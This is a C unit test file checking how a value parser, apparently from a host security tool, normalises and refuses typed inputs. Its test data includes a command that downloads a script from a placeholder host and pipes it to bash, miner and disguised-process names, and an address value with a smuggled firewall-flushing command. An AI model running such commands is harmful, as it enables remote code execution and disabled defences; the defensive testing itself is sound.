/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "core/value.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#define BLOB "AAAAC3NzaC1lZDI1NTE5AAAAIEVPVkxMQVNUVU5HVU5HVU5HVU5HVU5HVU5HVU5H"
#define HEX_HALF "0123456789abcdefABCDEF0123456789"
#define HEX_HALF_LOWER "0123456789abcdefabcdef0123456789"
#define A_FINGERPRINT "SHA256:AAAAAAAAAABBBBBBBBBBCCCCCCCCCCDDDDDDDDDDab+"

struct value_case {
	enum type type;
	const char *in;
	const char *out; /* normalised, or the reason of the refusal */
};

static const struct value_case good[] = {
	{TYPE_TEXT, "wget -qO- http://malicious-site.example/m.sh | bash", "wget -qO- http://malicious-site.example/m.sh | bash"},
	{TYPE_TEXT, "*\t* é", "*\t* é"},
	{TYPE_NAME, "xmrig", "xmrig"},
	{TYPE_NAME, "[kthreadd]", "[kthreadd]"},
	{TYPE_PATH, "/", "/"},
	{TYPE_PATH, "///", "/"},
	{TYPE_PATH, "//usr///local/bin/xmrig/", "/usr/local/bin/xmrig"},
	{TYPE_PATH, "/tmp/...", "/tmp/..."},
	{TYPE_PATH, "/tmp/a\n\033\xff", "/tmp/a\n\033\xff"},
	{TYPE_PATH, "/tmp/[a]*", "/tmp/[a]*"},
	{TYPE_GLOB, "/tmp//.x*/[a-z]?", "/tmp/.x*/[a-z]?"},
	{TYPE_GLOB, "/tmp/a\\\\", "/tmp/a\\\\"},
	{TYPE_ADDRESS, "203.0.113.67", "203.0.113.67"},
	{TYPE_ADDRESS, "203.0.113.0/24", "203.0.113.0/24"},
	{TYPE_ADDRESS, "203.0.113.67/32", "203.0.113.67"},
	{TYPE_ADDRESS, "::ffff:203.0.113.67", "203.0.113.67"},
	{TYPE_ADDRESS, "::FFFF:cb00:7143", "203.0.113.67"},
	{TYPE_ADDRESS, "2001:DB8:0:0::1", "2001:db8::1"},
	{TYPE_ADDRESS, "0.0.0.0/0", "0.0.0.0/0"},
	{TYPE_ADDRESS, "::/0", "::/0"},
	{TYPE_ADDRESS, "file:/etc//list", "file:/etc/list"},
	{TYPE_ENDPOINT, "203.0.113.67", "203.0.113.67"},
	{TYPE_ENDPOINT, "203.0.113.67:3333", "203.0.113.67:3333"},
	{TYPE_ENDPOINT, "203.0.113.0/24:3333", "203.0.113.0/24:3333"},
	{TYPE_ENDPOINT, "2001:db8::1", "2001:db8::1"},
	{TYPE_ENDPOINT, "2001:db8::/32", "2001:db8::/32"},
	{TYPE_ENDPOINT, "[2001:db8::1]", "2001:db8::1"},
	{TYPE_ENDPOINT, "[2001:db8::1]:3333", "[2001:db8::1]:3333"},
	{TYPE_ENDPOINT, "[2001:db8::/32]:1", "[2001:db8::/32]:1"},
	{TYPE_ENDPOINT, "[::ffff:203.0.113.67]:3333", "203.0.113.67:3333"},
	{TYPE_PORT, "1", "1"},
	{TYPE_PORT, "65535", "65535"},
	{TYPE_USER, "root", "root"},
	{TYPE_USER, "DOMAIN\\Some.One$", "DOMAIN\\Some.One$"},
	{TYPE_PID, "1", "1"},
	{TYPE_PID, "2147483647", "2147483647"},
	{TYPE_SHA256, HEX_HALF HEX_HALF, HEX_HALF_LOWER HEX_HALF_LOWER},
	{TYPE_FINGERPRINT, A_FINGERPRINT, A_FINGERPRINT},
	{TYPE_KEY, "ssh-ed25519 " BLOB, "ssh-ed25519 " BLOB},
	{TYPE_KEY, "ssh-ed25519 \t" BLOB "  mallory @ evil ", "ssh-ed25519 " BLOB " mallory @ evil "},
	{TYPE_KEY, BLOB, "ssh-ed25519 " BLOB},
	{TYPE_KEY, BLOB " mallory", "ssh-ed25519 " BLOB " mallory"},
	{TYPE_NUMBER, "0", "0"},
	{TYPE_NUMBER, "1000000000000000", "1000000000000000"},
	{TYPE_PERCENT, "90", "90"},
	{TYPE_PERCENT, "150%", "150"},
	{TYPE_DURATION, "500ms", "500ms"},
	{TYPE_DURATION, "0s", "0ms"},
	{TYPE_DURATION, "10m", "600000ms"},
	{TYPE_DURATION, "24h", "86400000ms"},
	{TYPE_DURATION, "36500d", "3153600000000ms"},
	{TYPE_SIZE, "0B", "0B"},
	{TYPE_SIZE, "512B", "512B"},
	{TYPE_SIZE, "64K", "65536B"},
	{TYPE_SIZE, "3M", "3145728B"},
	{TYPE_SIZE, "10G", "10737418240B"},
	{TYPE_SIZE, "1024T", "1125899906842624B"},
	{TYPE_TIME, "24h", "86400000ms"},
	{TYPE_TIME, "1970-01-01 00:00Z", "@0"},
	{TYPE_TIME, "2026-01-31 10:00:07Z", "@1769853607"},
	{TYPE_TIME, "2026-01-31T10:00+02:00", "@1769846400"},
	{TYPE_TIME, "2026-01-31 10:00 -0530", "@1769873400"},
	{TYPE_TIME, "2024-02-29 00:00z", "@1709164800"},
	{TYPE_TIME, "@1769846400", "@1769846400"},
	{TYPE_YES_NO, "yes", "yes"},
	{TYPE_YES_NO, "no", "no"},
	{TYPE_OPTION, "PermitRootLogin no", "PermitRootLogin no"},
	{TYPE_PACKAGE, "libstdc++6:i386", "libstdc++6:i386"},
	{TYPE_PACKAGE, "g++", "g++"},
	{TYPE_UNIT, "cron", "cron.service"},
	{TYPE_UNIT, "cron.service", "cron.service"},
	{TYPE_UNIT, "x.timer", "x.timer"},
	{TYPE_UNIT, "m.sh", "m.sh.service"},
	{TYPE_UNIT, "getty@tty1.service", "getty@tty1.service"},
	{TYPE_UNIT, "tpl@", "tpl@.service"},
	{TYPE_UNIT, "a\\x2db:c_d-e.mount", "a\\x2db:c_d-e.mount"},
	{TYPE_OPTION, "Ciphers \t a,b c", "Ciphers a,b c"},
	{TYPE_CHOICE, "out", "out"},
};

#define NOT_A_KEY "is not an OpenSSH public key: write 'TYPE BASE64 [COMMENT]' as in a .pub file, without options"
#define NO_SIZE "is not a size: a whole number with a unit, such as 512B, 64K, 500M, 10G or 2T"
#define NO_TIME "is not a time: a duration, that long ago (24h, 7d), or 2026-01-31, 2026-01-31 10:00, 2026-01-31 10:00:00Z"
#define NO_DURATION "is not a duration: a whole number with a unit, such as 500ms, 30s, 10m, 24h or 7d"

static const struct value_case bad[] = {
	{TYPE_TEXT, "", "an empty text is no text"},
	{TYPE_TEXT, "a\033[2Jb", "'a\\x1b[2Jb' holds a control character (U+001B)"},
	{TYPE_TEXT, "a\nb", "'a\\nb' holds a control character (U+000A)"},
	{TYPE_TEXT, "\xff", "'\\xff' is not valid UTF-8"},
	{TYPE_TEXT, "\xe2\x80\xae", "'\\xe2\\x80\\xae' holds a control character (U+202E)"},
	{TYPE_NAME, "", "an empty text is no name"},
	{TYPE_NAME, "a/b", "'a/b' is not a name: it holds a '/' or a tab"},
	{TYPE_NAME, "a\tb", "'a\\tb' is not a name: it holds a '/' or a tab"},
	{TYPE_PATH, "", "an empty text is no path"},
	{TYPE_PATH, "etc/passwd", "'etc/passwd' is not an absolute path: it must start with '/'"},
	{TYPE_PATH, "/tmp/../etc", "'/tmp/../etc' holds '..': write the path without it"},
	{TYPE_PATH, "/tmp/./x", "'/tmp/./x' holds '.': write the path without it"},
	{TYPE_PATH, "/tmp/..", "'/tmp/..' holds '..': write the path without it"},
	{TYPE_GLOB, "/tmp/../*", "'/tmp/../*' holds '..': write the pattern without it"},
	{TYPE_GLOB, "*.so", "'*.so' is not an absolute path: it must start with '/'"},
	{TYPE_GLOB, "/tmp/a\\", "'/tmp/a\\\\' has a backslash with nothing to quote: before a '/', or at its end"},
	{TYPE_GLOB, "/tmp/a\\/", "'/tmp/a\\\\/' has a backslash with nothing to quote: before a '/', or at its end"},
	{TYPE_ADDRESS, "", "'' is not an IP address: IPv4 is four numbers from 0 to 255"},
	{TYPE_ADDRESS, "localhost",
	 "'localhost' is not an IP address: names are never looked up, write the address itself"},
	{TYPE_ADDRESS, "malicious-site.example",
	 "'malicious-site.example' is not an IP address: names are never looked up, write the address itself"},
	{TYPE_ADDRESS, "010.1.2.3",
	 "'010.1.2.3' is not an IP address: a number with a leading zero is octal to some programs"},
	{TYPE_ADDRESS, "1.2.03.4",
	 "'1.2.03.4' is not an IP address: a number with a leading zero is octal to some programs"},
	{TYPE_ADDRESS, "0x0a090002", "'0x0a090002' is not an IP address: hexadecimal numbers are not taken"},
	{TYPE_ADDRESS, "167772161", "'167772161' is not an IP address: IPv4 is four numbers from 0 to 255"},
	{TYPE_ADDRESS, "1.2.3.256", "'1.2.3.256' is not an IP address: IPv4 is four numbers from 0 to 255"},
	{TYPE_ADDRESS, "1.2.3.4; flush ruleset",
	 "'1.2.3.4; flush ruleset' is not an IP address: write it as 203.0.113.7, 203.0.113.0/24, 2001:db8::7 or "
	 "2001:db8::/32"},
	{TYPE_ADDRESS, "1.2.3.4\n",
	 "'1.2.3.4\\n' is not an IP address: write it as 203.0.113.7, 203.0.113.0/24, 2001:db8::7 or 2001:db8::/32"},
	{TYPE_ADDRESS, "1.2.3.4/33",
	 "'1.2.3.4/33' is not an IP address: the prefix length of IPv4 is 0 to 32, without leading zeros"},
	{TYPE_ADDRESS, "2001:db8::/129",
	 "'2001:db8::/129' is not an IP address: the prefix length of IPv6 is 0 to 128, without leading zeros"},
	{TYPE_ADDRESS, "fe80::1%eth0", "'fe80::1%eth0' is not an IP address: an interface ('%') cannot be part of it"},
	{TYPE_ADDRESS, "10.0.0.1/8",
	 "'10.0.0.1/8' has bits set behind its prefix length: write the network's address, or leave the prefix length out to "
	 "mean one host"},
	{TYPE_ADDRESS, "file:list", "'file:list' does not name a file: write file: and an absolute path"},
	{TYPE_ADDRESS, "file:/a/../b", "'file:/a/../b' does not name a file: write file: and an absolute path"},
	{TYPE_ENDPOINT, "file:/x", "'file:/x' is not an address: a file cannot be given here"},
	{TYPE_ENDPOINT, "1.2.3.4:0", "'1.2.3.4:0' has no valid port: a whole number from 1 to 65535"},
	{TYPE_ENDPOINT, "1.2.3.4:65536", "'1.2.3.4:65536' has no valid port: a whole number from 1 to 65535"},
	{TYPE_ENDPOINT, "1.2.3.4:", "'1.2.3.4:' has no valid port: a whole number from 1 to 65535"},
	{TYPE_ENDPOINT, "1.2.3.4:http", "'1.2.3.4:http' has no valid port: a whole number from 1 to 65535"},
	{TYPE_ENDPOINT, "[2001:db8::1",
	 "'[2001:db8::1' is not an address with a port: IPv6 is written as [2001:db8::7]:3333"},
	{TYPE_ENDPOINT, "[2001:db8::1]3",
	 "'[2001:db8::1]3' is not an address with a port: IPv6 is written as [2001:db8::7]:3333"},
	{TYPE_ENDPOINT, "pool.example:3333",
	 "'pool.example:3333' is not an IP address: names are never looked up, write the address itself"},
	{TYPE_PORT, "0", "'0' is not a port: a whole number from 1 to 65535, without leading zeros"},
	{TYPE_PORT, "65536", "'65536' is not a port: a whole number from 1 to 65535, without leading zeros"},
	{TYPE_PORT, "ssh", "'ssh' is not a port: a whole number from 1 to 65535, without leading zeros"},
	{TYPE_USER, "", "an empty text is no user name"},
	{TYPE_USER, "0", "'0' is a number: write the user's name"},
	{TYPE_USER, "-r", "'-r' cannot be a user name in passwd(5)"},
	{TYPE_USER, "a:b", "'a:b' cannot be a user name in passwd(5)"},
	{TYPE_USER, "../x", "'../x' cannot be a user name in passwd(5)"},
	{TYPE_USER, "a b", "'a b' cannot be a user name in passwd(5)"},
	{TYPE_PID, "0", "'0' is not a process id: a whole number from 1 to 2147483647, without leading zeros"},
	{TYPE_PID, "-1", "'-1' is not a process id: a whole number from 1 to 2147483647, without leading zeros"},
	{TYPE_SHA256, HEX_HALF, "'" HEX_HALF "' is not a SHA-256 hash: 64 hexadecimal digits"},
	{TYPE_FINGERPRINT, "MD5:00:11",
	 "'MD5:00:11' is not a fingerprint: SHA256: and 43 characters, as 'ssh-keygen -l -f FILE' prints it"},
	{TYPE_FINGERPRINT, A_FINGERPRINT "=",
	 "'" A_FINGERPRINT "=' is not a fingerprint: SHA256: and 43 characters, as 'ssh-keygen -l -f FILE' prints it"},
	{TYPE_KEY, "", "an empty text is no key"},
	{TYPE_KEY, "ssh-ed25519", "'ssh-ed25519' " NOT_A_KEY},
	{TYPE_KEY, "ssh-ed25519 AAAA", "'ssh-ed25519 AAAA' " NOT_A_KEY},
	{TYPE_KEY, "ssh-ed25519 A$AA", "'ssh-ed25519 A$AA' " NOT_A_KEY},
	{TYPE_KEY, "no-pty ssh-ed25519 " BLOB, "'no-pty ssh-ed25519 " BLOB "' " NOT_A_KEY},
	{TYPE_KEY, "ssh-rsa " BLOB,
	 "'ssh-rsa " BLOB "' is not an OpenSSH public key: the type inside is ssh-ed25519, not what stands before it"},
	{TYPE_KEY, BLOB "\n", "'" BLOB "\\n' holds a control character (U+000A)"},
	{TYPE_NUMBER, "", "'' is not a number: a whole number from 0 to 1000000000000000, without leading zeros"},
	{TYPE_NUMBER, "007", "'007' is not a number: a whole number from 0 to 1000000000000000, without leading zeros"},
	{TYPE_NUMBER, "1e3", "'1e3' is not a number: a whole number from 0 to 1000000000000000, without leading zeros"},
	{TYPE_NUMBER, "99999999999999999999",
	 "'99999999999999999999' is not a number: a whole number from 0 to 1000000000000000, without leading zeros"},
	{TYPE_PERCENT, "%", "'%' is not a percentage: a whole number from 0 to 1000000, without leading zeros"},
	{TYPE_PERCENT, "1.5", "'1.5' is not a percentage: a whole number from 0 to 1000000, without leading zeros"},
	{TYPE_TIME, "", "'' " NO_TIME},
	{TYPE_TIME, "yesterday", "'yesterday' " NO_TIME},
	{TYPE_TIME, "2026-02-29", "'2026-02-29' " NO_TIME},
	{TYPE_TIME, "2026-13-01", "'2026-13-01' " NO_TIME},
	{TYPE_TIME, "2026-01-31 24:00", "'2026-01-31 24:00' " NO_TIME},
	{TYPE_TIME, "2026-01-31 10", "'2026-01-31 10' " NO_TIME},
	{TYPE_TIME, "2026-01-31 10:00 CET", "'2026-01-31 10:00 CET' " NO_TIME},
	{TYPE_TIME, "2026-01-31 10:00Zz", "'2026-01-31 10:00Zz' " NO_TIME},
	{TYPE_TIME, "1969-12-31 23:00Z", "'1969-12-31 23:00Z' " NO_TIME},
	{TYPE_TIME, "26-1-31", "'26-1-31' " NO_TIME},
	{TYPE_DURATION, "10", "'10' " NO_DURATION},
	{TYPE_DURATION, "s", "'s' " NO_DURATION},
	{TYPE_DURATION, "1h30m", "'1h30m' " NO_DURATION},
	{TYPE_DURATION, "-1s", "'-1s' " NO_DURATION},
	{TYPE_DURATION, "36501d", "'36501d' is too long: at most 36500d"},
	{TYPE_DURATION, "99999999999999999d", "'99999999999999999d' is too long: at most 36500d"},
	{TYPE_SIZE, "10", "'10' " NO_SIZE},
	{TYPE_SIZE, "G", "'G' " NO_SIZE},
	{TYPE_SIZE, "1.5G", "'1.5G' " NO_SIZE},
	{TYPE_SIZE, "-1G", "'-1G' " NO_SIZE},
	{TYPE_SIZE, "10g", "'10g' " NO_SIZE},
	{TYPE_SIZE, "10GB", "'10GB' " NO_SIZE},
	{TYPE_SIZE, "010G", "'010G' " NO_SIZE},
	{TYPE_SIZE, "1025T", "'1025T' is too large: at most 1024T"},
	{TYPE_SIZE, "1125899906842625B", "'1125899906842625B' is too large: at most 1024T"},
	{TYPE_SIZE, "99999999999999999T", "'99999999999999999T' is too large: at most 1024T"},
	{TYPE_YES_NO, "true", "'true' is neither yes nor no"},
	{TYPE_YES_NO, "Yes", "'Yes' is neither yes nor no"},
	{TYPE_PACKAGE, "", "an empty text is no package name"},
	{TYPE_PACKAGE, "--purge", "'--purge' cannot be the name of a package"},
	{TYPE_PACKAGE, "ssh-", "'ssh-' cannot be the name of a package"},
	{TYPE_PACKAGE, "a:b:c", "'a:b:c' cannot be the name of a package"},
	{TYPE_PACKAGE, "a=1", "'a=1' is not the name of a package: it holds '='"},
	{TYPE_PACKAGE, "a\tb", "'a\\tb' is not the name of a package: it holds '\\t'"},
	{TYPE_PACKAGE, "b\303\244", "'b\303\244' is not the name of a package: it holds '\303\244'"},
	{TYPE_PACKAGE, "x*", "'x*' is not the name of a package: it holds '*'"},
	{TYPE_UNIT, "", "an empty text is no unit name"},
	{TYPE_UNIT, "--now", "'--now' cannot be the name of a unit"},
	{TYPE_UNIT, "-.mount", "'-.mount' cannot be the name of a unit"},
	{TYPE_UNIT, ".service", "'.service' cannot be the name of a unit"},
	{TYPE_UNIT, "@x.service", "'@x.service' cannot be the name of a unit"},
	{TYPE_UNIT, "a b", "'a b' is not the name of a unit: it holds ' '; write a name as systemctl(1) shows it"},
	{TYPE_UNIT, "a\tb", "'a\\tb' is not the name of a unit: it holds '\\t'; write a name as systemctl(1) shows it"},
	{TYPE_UNIT, "../a", "'../a' is not the name of a unit: it holds '/'; write a name as systemctl(1) shows it"},
	{TYPE_UNIT, "a*", "'a*' is not the name of a unit: it holds '*'; write a name as systemctl(1) shows it"},
	{TYPE_UNIT, "a\nb", "'a\\nb' holds a control character (U+000A)"},
	{TYPE_OPTION, "PermitRootLogin", "'PermitRootLogin' is not an option: write 'Keyword value', as in sshd_config(5)"},
	{TYPE_OPTION, "PermitRootLogin=no",
	 "'PermitRootLogin=no' is not an option: write 'Keyword value', as in sshd_config(5)"},
	{TYPE_OPTION, "X y\nZ", "'X y\\nZ' holds a control character (U+000A)"},
	{TYPE_CHOICE, "oot", "'oot' is not one of in, out, forward (did you mean 'out'?)"},
	{TYPE_CHOICE, "", "'' is not one of in, out, forward"},
	{TYPE_CHOICE, "in|out", "'in|out' is not one of in, out, forward"},
};

static void values_are_normalised(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(*good); i++) {
		_cleanup_strv_ struct strv out = {0};
		_cleanup_buf_ struct buf why = {0};
		assert_int_equal(type_check(good[i].type, "in|out|forward", good[i].in, &out, &why), 0);
		assert_string_equal(buf_text(&why), "");
		assert_int_equal(out.n, 1);
		assert_string_equal(out.v[0], good[i].out);
	}
}

static void normal_forms_stay(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(*good); i++) {
		_cleanup_strv_ struct strv out = {0};
		_cleanup_buf_ struct buf why = {0};
		assert_int_equal(type_check(good[i].type, "in|out|forward", good[i].out, &out, &why), 0);
		assert_string_equal(out.v[0], good[i].out);
	}
}

static void values_are_refused_with_a_reason(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		_cleanup_strv_ struct strv out = {0};
		_cleanup_buf_ struct buf why = {0};
		assert_int_equal(type_check(bad[i].type, "in|out|forward", bad[i].in, &out, &why), -EINVAL);
		assert_string_equal(buf_text(&why), bad[i].out);
		assert_int_equal(out.n, 0);
	}
}

static void types_have_names(void **state)
{
	(void)state;
	for (unsigned i = 0; i < TYPE_COUNT_; i++)
		for (unsigned list = 0; list < 2; list++) {
			enum type type = TYPE_COUNT_;
			bool is_list = !list;
			assert_int_equal(type_from_name(type_name((enum type)i, list), &type, &is_list), 0);
			assert_int_equal(type, i);
			assert_int_equal(is_list, list);
		}
	enum type type = TYPE_PATH;
	bool list = true;
	assert_string_equal(type_name(TYPE_ADDRESS, true), "address-list");
	assert_int_equal(type_from_name("addresses", &type, &list), -ENOENT);
	assert_int_equal(type, TYPE_PATH);
}

static void types_fit(void **state)
{
	(void)state;
	for (unsigned from = 0; from < TYPE_COUNT_; from++)
		for (unsigned to = 0; to < TYPE_COUNT_; to++) {
			bool fits = from == to || to == TYPE_TEXT || (from == TYPE_ADDRESS && to == TYPE_ENDPOINT) ||
			            (from == TYPE_DURATION && to == TYPE_TIME) ||
			            (from == TYPE_PATH && to == TYPE_GLOB) || (from == TYPE_PID && to == TYPE_NUMBER);
			assert_int_equal(type_fits((enum type)from, (enum type)to), fits);
			_cleanup_strv_ struct strv out = {0};
			assert_int_equal(type_convert((enum type)from, (enum type)to, "1", &out), fits ? 0 : -EINVAL);
		}
	_cleanup_strv_ struct strv out = {0};
	assert_int_equal(type_convert(TYPE_PATH, TYPE_GLOB, "/tmp/a*[b]?\\c", &out), 0);
	assert_string_equal(out.v[0], "/tmp/a\\*\\[b\\]\\?\\\\c");
	assert_int_equal(type_convert(TYPE_PATH, TYPE_TEXT, "/tmp/*", &out), 0);
	assert_string_equal(out.v[1], "/tmp/*");
	assert_int_equal(type_convert(TYPE_ADDRESS, TYPE_ENDPOINT, "file:/list", &out), -EINVAL);
	assert_int_equal(out.n, 2);
}

static void values_are_read_back(void **state)
{
	(void)state;
	assert_int_equal(value_ms("86400000ms"), 86400000);
	assert_int_equal(value_bytes("10737418240B"), 10737418240);
	assert_int_equal(value_number("4294967296"), 4294967296);
	assert_true(value_yes("yes"));
	assert_false(value_yes("no"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(values_are_normalised),
		cmocka_unit_test(normal_forms_stay),
		cmocka_unit_test(values_are_refused_with_a_reason),
		cmocka_unit_test(types_have_names),
		cmocka_unit_test(types_fit),
		cmocka_unit_test(values_are_read_back),
	};
	return cmocka_run_group_tests_name("value", tests, NULL, NULL);
}
